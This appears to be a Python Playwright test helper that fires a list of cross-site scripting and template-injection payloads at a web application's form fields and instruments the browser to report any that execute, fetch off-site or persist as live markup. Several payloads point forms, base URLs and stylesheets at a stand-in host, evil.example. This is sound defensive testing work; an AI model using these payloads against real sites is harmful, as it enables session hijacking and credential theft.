"""Strings that would run if anything took them for more than text, and a browser that tells when one does."""

import asyncio
from dataclasses import dataclass, field
from typing import Any

from playwright.async_api import Browser, BrowserContext, ConsoleMessage, Page, Request

from tests.site import Person, Site

PAYLOADS = (
    "<script>xss()</script>",
    '"><script src=/xss.js></script>',
    "<img class=xss src=/xss onerror=xss()>",
    "'\"><svg class=xss onload=xss()>",
    "<a class=xss href=javascript:xss()>her</a>",
    '" autofocus onfocus=xss() x="',
    "' onmouseover='xss()' x='",
    "</textarea><script>xss()</script>",
    "</title><svg class=xss onload=xss()>",
    "--><img class=xss src=/xss onerror=xss()>",
    "</template><script>xss()</script>",
    "</select></option><b class=xss onclick=xss()>",
    "</script><script>xss()</script>",
    "<div class=xss hx-get=/xss hx-trigger=load></div>",
    "<div class=xss data-hx-get=/xss data-hx-trigger=load></div>",
    "<p class=xss hx-on:click=xss() hx-on::load=xss()>",
    "<hx-partial class=xss hx-target=#live>xss</hx-partial>",
    "<div class=xss hx-ws:connect=/xss></div>",
    "<style class=xss>@import'/xss.css';*{display:none}</style>",
    '<iframe class=xss srcdoc="<script>xss()</script>">',
    "<object class=xss data=/xss></object><embed class=xss src=/xss>",
    "<base class=xss href=//evil.example/>",
    "<link class=xss rel=stylesheet href=//evil.example/x.css>",
    "<meta class=xss http-equiv=refresh content=0;url=/xss>",
    "<form class=xss action=//evil.example><button>Logg inn</button></form>",
    "<math class=xss><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=xss()&gt;'>",
    "&lt;script&gt;xss()&lt;/script&gt; &#60;img src=x onerror=xss()&#62; &amp;amp;",
    "\uff1cscript\uff1exss()\uff1c/script\uff1e \u02c2img onerror=xss()\u02c3",
    "\u202e<b class=xss onclick=xss()>\u2066 \u2028 \ufeff \u200b",
    "{{7*7}} {% include 'base.html' %} ${7*7} #{7*7} <%= 7*7 %>",
    "%s %(x)s %(name)s %% {0.__class__} 100 %",
    "];xss();// ');xss();// `${xss()}` \\u003cscript\\u003exss()",
    "url(/xss) expression(xss()) behavior:url(/xss) javascript:xss()",
    "#live, [data-seen] > .live:not(.xss) $x$ *b* @ref #eval(1)",
)
"""Each is one line, and no longer than the shortest field takes together with the field's own name."""

ROOM = 200 - 40
"""What a one-line field holds, without the name of the field that stands in front."""


def groups() -> list[str]:
    """All payloads, as many together as a one-line field has room for."""
    packed = [""]
    for payload in PAYLOADS:
        if packed[-1] and len(packed[-1]) + 1 + len(payload) > ROOM:
            packed.append("")
        packed[-1] = f"{packed[-1]} {payload}".strip()
    return packed


HARMLESS = ("the server responded with a status of 4", "does not conform to the required format")
"""What a browser says of a page that was meant to be refused, and of a date field given back with no date."""

WATCH = """
window.xss = (...args) => window.tellTest('ran ' + args.join());
for (const name of ['alert', 'confirm', 'prompt', 'open']) {
  window[name] = () => window.tellTest('called ' + name);
}
document.addEventListener('securitypolicyviolation', event =>
  window.tellTest(`the policy stopped ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""

BORN = """
() => {
  const found = [];
  const address = /xss|evil\\.example|javascript:/i;
  const strange = 'iframe,object,embed,base,style,math,svg,template,hx-partial,meta[http-equiv],.xss';
  for (const element of document.querySelectorAll(strange)) found.push(element.outerHTML.slice(0, 150));
  for (const element of document.querySelectorAll('*')) {
    for (const {name, value} of element.attributes) {
      const acts = /^on|^(data-)?hx-on/i.test(name);
      const leads = /^(data-)?hx-|^(href|src|srcset|action|formaction|data|style|srcdoc)$/i.test(name);
      if (acts || leads && address.test(value)) found.push(`${element.tagName} ${name}=${value}`);
    }
    if (!element.matches('script,link')) continue;
    const own = String(element.src || element.href);
    if (!own.startsWith(location.origin + '/static/')) found.push(`${element.tagName} ${own}`);
  }
  return found;
}
"""

SHOWN = """
() => {
  const words = [document.title, document.documentElement.textContent];
  for (const field of document.querySelectorAll('input,textarea')) words.push(field.value);
  for (const named of document.querySelectorAll('[aria-label]')) words.push(named.getAttribute('aria-label'));
  return words.join('\\n');
}
"""


@dataclass
class Alarm:
    """What a browser told of things that must not happen."""

    told: list[str] = field(default_factory=list)
    rang: asyncio.Event = field(default_factory=asyncio.Event)

    def tell(self, what: str) -> None:
        self.told.append(what)
        self.rang.set()

    async def watch(self, context: BrowserContext, site: Site) -> None:
        """Listen to every page that the context opens from now on."""
        await context.expose_binding("tellTest", lambda _, what: self.tell(what))
        await context.add_init_script(WATCH)
        context.on("page", lambda page: self._listen(page, site))
        for page in context.pages:
            self._listen(page, site)

    def _listen(self, page: Page, site: Site) -> None:
        own = (site.address, site.world.house.settings.issuer.rstrip("/"))
        page.on("pageerror", lambda error: self.tell(f"error {error}"))
        page.on("console", self._console)
        page.on("dialog", self._dialog)
        page.on("websocket", lambda socket: self._fetched(socket.url.replace("ws://", "http://"), own))
        page.on("request", lambda request: self._request(request, own))

    def _console(self, said: ConsoleMessage) -> None:
        if said.type in ("error", "warning") and not any(one in said.text for one in HARMLESS):
            self.tell(f"console {said.text}")

    async def _dialog(self, dialog: Any) -> None:
        self.tell(f"dialog {dialog.message}")
        await dialog.dismiss()

    def _request(self, request: Request, own: tuple[str, ...]) -> None:
        # An address that the test itself goes to may hold anything; what a page fetches by itself may not.
        if not request.is_navigation_request() or request.frame.parent_frame:
            self._fetched(request.url, own)
        elif not request.url.startswith(own):
            self.tell(f"went to {request.url}")

    def _fetched(self, url: str, own: tuple[str, ...]) -> None:
        if "xss" in url or not url.startswith(own):
            self.tell(f"fetched {url}")

    async def look(self, page: Page, what: str, shows: tuple[str, ...] = ()) -> None:
        """Judge the page as it stands: nothing was born from a payload, and ``shows`` is shown as it is."""
        for one in await page.evaluate(BORN):
            self.tell(f"{what}: {one}")
        said = tidy(await page.evaluate(SHOWN))
        missing = [one for one in shows if tidy(one) not in said]
        assert not missing, f"{what} does not show {missing[:3]}"


def tidy(text: str) -> str:
    """Without differences in white space, which HTML does not keep."""
    return " ".join(text.split())


async def hostile_person(site: Site, browser: Browser, name: str, alarm: Alarm) -> Person:
    """Somebody's browser, logged in, with the alarm set."""
    person = await site.person(browser, name)
    await alarm.watch(person.context, site)
    return person


async def submit(page: Page, path: str, form: dict[str, str]) -> None:
    """Send a form from the page as its own would be sent, and come to the page that answers it."""
    async with page.expect_navigation():
        await page.evaluate(
            """([path, fields]) => {
              const form = Object.assign(document.createElement('form'), {method: 'post', action: path});
              for (const [name, value] of Object.entries(fields)) {
                const area = document.createElement('textarea');
                Object.assign(area, {name, value});
                form.append(area);
              }
              document.body.append(form);
              form.submit();
            }""",
            [path, form],
        )
